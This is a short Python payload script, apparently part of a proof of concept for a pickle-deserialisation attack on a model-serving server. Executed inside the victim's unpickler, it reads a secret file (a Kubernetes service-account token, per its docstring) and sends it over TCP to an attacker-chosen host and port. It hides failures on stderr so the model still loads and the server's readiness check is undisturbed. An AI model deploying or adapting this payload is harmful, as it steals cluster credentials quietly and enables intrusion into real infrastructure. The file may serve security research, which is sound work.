"""Payload (builtins.exec gadget): steal a credential. Reads PARAMS["secret_path"] (a Kubernetes
service-account token in the real attack) and sends it to PARAMS["host"]:PARAMS["port"] over TCP
as one line, "TOKEN <contents>\n".

Runs inside the victim's unpickler with PARAMS bound. Errors are swallowed (to stderr only) so the
model still loads; nothing goes to stdout, which is the server's readiness channel.
"""
import socket
import sys

try:
    with open(PARAMS["secret_path"]) as secret:
        # Tokens end with a newline at most; stripping it keeps the message one line.
        token = secret.read().rstrip("\r\n")
    with socket.create_connection((PARAMS["host"], int(PARAMS["port"])),
                                  timeout=float(PARAMS.get("timeout_seconds", 5))) as channel:
        channel.sendall(f"TOKEN {token}\n".encode())
except Exception as error:
    print(f"exfiltrate_secret: {type(error).__name__}: {error}", file=sys.stderr)
